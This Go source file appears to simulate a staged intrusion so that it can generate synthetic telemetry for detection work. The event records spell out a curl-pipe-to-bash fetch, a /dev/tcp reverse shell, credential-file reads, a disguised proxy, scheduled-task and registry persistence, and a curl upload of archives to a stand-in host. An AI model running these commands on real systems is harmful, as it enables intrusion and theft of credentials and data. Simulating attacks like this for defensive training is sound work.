// SPDX-FileCopyrightText: 2026 The Kestrel Authors
// SPDX-License-Identifier: Apache-2.0

package main

import (
	"fmt"
	"net/netip"
	"time"
)

// The intruder's own files.
const (
	nest  = "/dev/shm/.x"
	store = `C:\ProgramData\ReportSync`
)

// intrusion is what should be found.
func (s *scene) intrusion(web *webHost, desk *deskHost) {
	s.probing(web)
	shell := s.exploitation(web)
	s.webDiscovery(shell)
	s.webCredentials(shell)
	proxy := s.tunneling(shell)
	remote := s.lateralMovement(proxy, desk)
	s.deskDiscovery(remote)
	s.persistence(remote, desk)
	s.collection(remote)
	s.exfiltration(remote)
	s.traces(shell, remote)
}

// probing looks for a door: many requests from one address.
func (s *scene) probing(w *webHost) {
	d := newDice(s.seed, "intrusion probing")
	paths := []string{"/.env", "/.git/config", "/admin", "/api/v1/export", "/api/v1/users/1", "/api/v1/orders?id=1%27", "/actuator/health", "/wp-login.php", "/api/v1/reports", "/api/v1/reports/preview", "/debug", "/server-status"}
	s.each(d, s.at(12, 41, 3), s.at(12, 58, 0), 27*time.Second, 9*time.Second, func(at time.Time) {
		n := d.in(1, 6)
		s.request(w, at, uint16(d.in(40000, 44000)), n, probe, &httpRequest{method: "GET", path: pick(d, paths), agent: "curl/8.5.0"})
	})
	for i := range 3 {
		s.request(w, s.at(12, 58, float64(20+11*i)), uint16(44100+i), 1, probe, &httpRequest{method: "POST", path: "/api/v1/reports/preview", agent: "curl/8.5.0"})
	}
}

// request adds a request of the intruder to the web server.
func (s *scene) request(w *webHost, at time.Time, from uint16, times int, a act, req *httpRequest) {
	s.accept(w.worker, at, netip.AddrPortFrom(s.scanner, from), 443,
		flow{sent: int64(540 * times), received: int64(1310 * times), count: times, lasts: time.Duration(times-1) * time.Second, act: a}, req)
}

// exploitation makes the service run commands, and ends in a shell that calls
// the intruder.
func (s *scene) exploitation(w *webHost) *process {
	inject := func(at time.Time, port int, command string) *process {
		s.request(w, at.Add(-200*time.Millisecond), uint16(port), 1, exploit, &httpRequest{method: "POST", path: "/api/v1/reports/preview", agent: "curl/8.5.0"})
		r := dash("/bin/sh -c "+command, 20*time.Second)
		r.act = exploit
		return s.start(w.service(at), at, r)
	}
	at := s.at(13, 2, 11)
	first := inject(at, 44210, "id; uname -a")
	s.start(first, at.Add(30*time.Millisecond), done(exploit, tool("id", "id")))
	s.start(first, at.Add(60*time.Millisecond), done(exploit, tool("uname", "uname -a")))

	at = s.at(13, 2, 40)
	second := inject(at, 44211, "curl -fsS http://198.51.100.77/s.sh | bash")
	curl := s.start(second, at.Add(30*time.Millisecond), done(exploit, tool("curl", "curl -fsS http://198.51.100.77/s.sh")))
	s.connect(curl, at.Add(90*time.Millisecond), flow{to: s.intruder(80), from: 38112, sent: 92, received: 1320, act: exploit})
	bash := s.start(second, at.Add(35*time.Millisecond), done(exploit, run{name: "bash", command: "bash", image: program("/usr/bin/bash"), lasts: 10 * time.Second}))
	s.start(bash, at.Add(900*time.Millisecond), done(exploit, tool("mkdir", "mkdir -p "+nest)))

	at = s.at(13, 3, 5)
	third := inject(at, 44212, "bash -c 'bash -i >& /dev/tcp/198.51.100.77/443 0>&1'")
	outer := s.start(third, at.Add(20*time.Millisecond), done(exploit, run{name: "bash", command: "bash -c bash -i >& /dev/tcp/198.51.100.77/443 0>&1", image: program("/usr/bin/bash")}))
	shell := s.start(outer, at.Add(45*time.Millisecond), done(exploit, run{name: "bash", command: "bash -i", image: program("/usr/bin/bash"), dir: "/srv/orders"}))
	s.connect(shell, at.Add(110*time.Millisecond), flow{to: s.intruder(443), from: 38114, sent: kib(212), received: kib(19), lasts: 78 * time.Minute, act: exploit})
	s.pinned[shell] = s.earlier(s.web, s.at(7, 35, 0))
	return shell
}

// done marks a run as part of an act.
func done(a act, r run) run {
	r.act = a
	return r
}

func (s *scene) intruder(port uint16) netip.AddrPort { return netip.AddrPortFrom(s.control, port) }

// earlier returns the first shell that cron started on a host after a moment:
// its process id will be used again.
func (s *scene) earlier(h *host, after time.Time) *process {
	var found *process
	for _, p := range s.processes {
		fits := p.host == h && p.name == "sh" && p.parent.name == "cron" && p.start.After(after)
		if fits && (found == nil || p.start.Before(found.start)) {
			found = p
		}
	}
	return found
}

// webDiscovery asks the web server about itself and its neighbours. Most of it
// falls into the minutes without the agent.
func (s *scene) webDiscovery(shell *process) {
	commands := []run{
		tool("whoami", "whoami"), tool("id", "id"), tool("hostname", "hostname -f"), tool("uname", "uname -a"),
		tool("cat", "cat /etc/os-release"), tool("cat", "cat /etc/passwd"), tool("ps", "ps auxf"), tool("ss", "ss -tlnp"),
		tool("ip", "ip -4 addr"), tool("ip", "ip route"), tool("ip", "ip neigh"), tool("env", "env"), tool("ls", "ls -la /srv/orders"),
		tool("find", "find / -perm -4000 -type f"), tool("sudo", "sudo -n -l"), tool("getent", "getent hosts dc01.corp.example.com"),
		tool("df", "df -h"), tool("ls", "ls -la /var/backups"),
	}
	for i, r := range commands {
		s.start(shell, s.at(13, 3, float64(41+29*i)), done(discovery, r))
	}
}

// webCredentials reads what the service and the backup leave within reach.
func (s *scene) webCredentials(shell *process) {
	read := func(at time.Time, r run, paths ...string) {
		p := s.start(shell, at, done(credential, r))
		for i, path := range paths {
			s.touch(p, at.Add(time.Duration(50+10*i)*time.Millisecond), fileRead, document(path, "secrets", 412), credential)
		}
	}
	read(s.at(13, 13, 2), tool("cat", "cat /srv/orders/.env"), "/srv/orders/.env")
	read(s.at(13, 13, 40), tool("cat", "cat /srv/orders/config/production.json"), "/srv/orders/config/production.json")
	read(s.at(13, 14, 25), tool("grep", "grep -rniE passw|secret|token /srv/orders/config"), "/srv/orders/config/default.json", "/srv/orders/config/production.json")
	read(s.at(13, 16, 9), tool("tar", "tar -xzf /var/backups/deploy-home.tgz -C "+nest), "/var/backups/deploy-home.tgz")
	read(s.at(13, 17, 30), tool("cat", "cat "+nest+"/.ssh/id_ed25519"), nest+"/.ssh/id_ed25519")
	read(s.at(13, 17, 58), tool("cat", "cat "+nest+"/.netrc"), nest+"/.netrc")
}

// tunneling brings a proxy and looks through it at the inner network.
func (s *scene) tunneling(shell *process) *process {
	at := s.at(13, 26, 30)
	helper := nest + "/ntpd-sync"
	curl := s.start(shell, at, done(tunnel, tool("curl", "curl -fsS -o "+helper+" http://198.51.100.77/t")))
	s.connect(curl, at.Add(60*time.Millisecond), flow{to: s.intruder(80), from: 38160, sent: 84, received: mib(6), act: tunnel})
	s.touch(curl, at.Add(900*time.Millisecond), fileWritten, document(helper, "", mib(6)), tunnel)
	s.start(shell, at.Add(9*time.Second), done(tunnel, tool("chmod", "chmod +x "+helper)))
	image := program(helper)
	image.size = mib(6)
	proxy := s.start(shell, at.Add(15*time.Second), done(tunnel, run{name: "ntpd-sync", command: helper + " --connect 198.51.100.77:443 --socks 1080", image: image, dir: nest}))
	s.connect(proxy, at.Add(15300*time.Millisecond), flow{to: s.intruder(443), from: 38170, sent: mib(2), received: mib(1), count: 3, lasts: 55 * time.Minute, act: tunnel})

	for i, last := range []int{10, 11, 12, 20, 21, 22, 30, 31, 33, 36, 37, 41} {
		target := netip.AddrFrom4([4]byte{10, 20, 5, byte(last)})
		for j, port := range []uint16{445, 3389, 5985} {
			f := flow{to: netip.AddrPortFrom(target, port), from: uint16(45000 + 3*i + j), sent: 60, act: tunnel}
			if target == s.desk.address && port != 3389 {
				f.sent, f.received = 212, 180
			}
			s.connect(proxy, s.at(13, 30, float64(7*i+2*j)), f)
		}
	}
	return proxy
}

// lateralMovement enters the workstation with an account from the backup.
func (s *scene) lateralMovement(proxy *process, k *deskHost) *process {
	session := netip.AddrPortFrom(s.desk.address, 5985)
	try := func(at time.Time, u *user, failed bool) {
		s.events = append(s.events, &logon{
			header:  header{at: at, host: s.desk, act: lateral},
			process: k.lsass, user: u, kind: "network", source: s.web.address, session: session, failed: failed,
		})
	}
	for i, login := range []string{"deploy", "deploy", "svc-report", "svc-report"} {
		nobody := &user{login: login, id: "S-1-0-0", domain: "CORP"} // a failed logon has no SID yet
		try(s.at(13, 38, float64(14*i)), nobody, true)
	}
	at := s.at(13, 41, 20)
	f := flow{to: session, from: 45210, sent: kib(61), received: kib(140), count: 9, lasts: 44 * time.Minute, act: lateral}
	s.connect(proxy, at, f)
	s.accept(k.kernel, at.Add(4*time.Millisecond), netip.AddrPortFrom(s.web.address, f.from), 5985, f, nil)
	try(at.Add(300*time.Millisecond), s.report, false)
	return s.remoteShell(k, at.Add(900*time.Millisecond), s.report, 46*time.Minute, lateral)
}

// deskDiscovery asks the workstation about itself and its domain.
func (s *scene) deskDiscovery(remote *process) {
	for i, r := range []run{
		win("whoami.exe", "/all"), win("HOSTNAME.EXE", ""), win("ipconfig.exe", "/all"), win("quser.exe", ""),
		win("net.exe", "user /domain"), win("net.exe", `group "Finance" /domain`), win("nltest.exe", "/dclist:corp.example.com"),
		win("tasklist.exe", "/v"), win("systeminfo.exe", ""),
	} {
		s.start(remote, s.at(13, 42, float64(10+23*i)), done(lateral, r))
	}
	at := s.at(13, 47, 30)
	cmd := s.start(remote, at, done(lateral, win("cmd.exe", `/c dir /s /b C:\Users\dana.reyes\Documents & tree C:\Users\dana.reyes /f`)))
	s.start(cmd, at.Add(4*time.Second), done(lateral, win("tree.com", `C:\Users\dana.reyes /f`)))
}

// persistence makes the workstation call back every half hour.
func (s *scene) persistence(remote *process, k *deskHost) {
	at := s.at(13, 53, 10)
	script := document(store+`\sync.ps1`, "", 2210)
	s.touch(remote, at, fileWritten, script, persist)
	hidden := `-w hidden -ep bypass -File ` + store + `\sync.ps1`
	s.start(remote, at.Add(12*time.Second), done(persist, win("schtasks.exe", `/create /tn "Report Sync" /sc minute /mo 30 /ru SYSTEM /tr "powershell.exe `+hidden+`"`)))
	reg := s.start(remote, at.Add(31*time.Second), done(persist, win("reg.exe", `add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v ReportSync /d "powershell.exe `+hidden+`" /f`)))
	s.set(reg, at.Add(31200*time.Millisecond), `HKEY_LOCAL_MACHINE\Software\Microsoft\Windows\CurrentVersion\Run`, "ReportSync", "powershell.exe "+hidden, persist)
	for i := range 6 {
		then := s.at(14, 30, 1).Add(time.Duration(i) * 30 * time.Minute)
		p := s.start(k.schedule, then, done(persist, powershell(hidden, s.system, 15*time.Second)))
		s.resolve(k.dns, then.Add(1200*time.Millisecond), "sync.updates.example.net", persist)
		s.connect(p, then.Add(1400*time.Millisecond), flow{to: s.intruder(443), from: uint16(52100 + i), sent: 1480, received: 390, act: persist})
	}
}

// collection packs the documents of finance.
func (s *scene) collection(remote *process) {
	sevenZip := program(store + `\7za.exe`)
	s.touch(remote, s.at(14, 3, 2), fileWritten, document(store+`\7za.exe`, "", kib(796)), collect)
	folders := []string{"Payroll", "Forecast", "Contracts"}
	for i, size := range archiveSizes() {
		at := s.at(14, 4, float64(15+70*i))
		archive := fmt.Sprintf(`%s\r%d.7z`, store, i+1)
		p := s.start(remote, at, done(collect, run{
			name: "7za.exe", image: sevenZip, lasts: 50 * time.Second, dir: store + `\`,
			command: fmt.Sprintf(`%s\7za.exe a -mhe=on -pQ1report %s C:\Users\dana.reyes\Documents\%s`, store, archive, folders[i]),
		}))
		s.touch(p, at.Add(42*time.Second), fileWritten, document(archive, "", size), collect)
	}
}

// archiveSizes are the sizes of the archives that leave, in order.
func archiveSizes() []int64 { return []int64{mib(18) + 4096, mib(7) + 812, mib(41) + 77} }

// exfiltration uploads the archives.
func (s *scene) exfiltration(remote *process) {
	for i, size := range archiveSizes() {
		at := s.at(14, 12, float64(5+95*i))
		curl := s.start(remote, at, done(exfiltrate, win("curl.exe", fmt.Sprintf(`-sk -T %s\r%d.7z https://192.0.2.44/u/`, store, i+1))))
		s.connect(curl, at.Add(400*time.Millisecond), flow{
			to: netip.AddrPortFrom(s.drop, 443), from: uint16(51820 + i), sent: size + 1900, received: 612, lasts: 70 * time.Second, act: exfiltrate,
		})
	}
}

// traces removes what was left lying about.
func (s *scene) traces(shell, remote *process) {
	at := s.at(14, 19, 30)
	cmd := s.start(remote, at, done(cleanup, win("cmd.exe", `/c del /q `+store+`\*.7z `+store+`\7za.exe`)))
	for i := range archiveSizes() {
		s.touch(cmd, at.Add(time.Duration(100+20*i)*time.Millisecond), fileDeleted, document(fmt.Sprintf(`%s\r%d.7z`, store, i+1), "", 0), cleanup)
	}
	s.start(shell, s.at(14, 20, 45), done(cleanup, tool("rm", "rm -rf "+nest)))
}
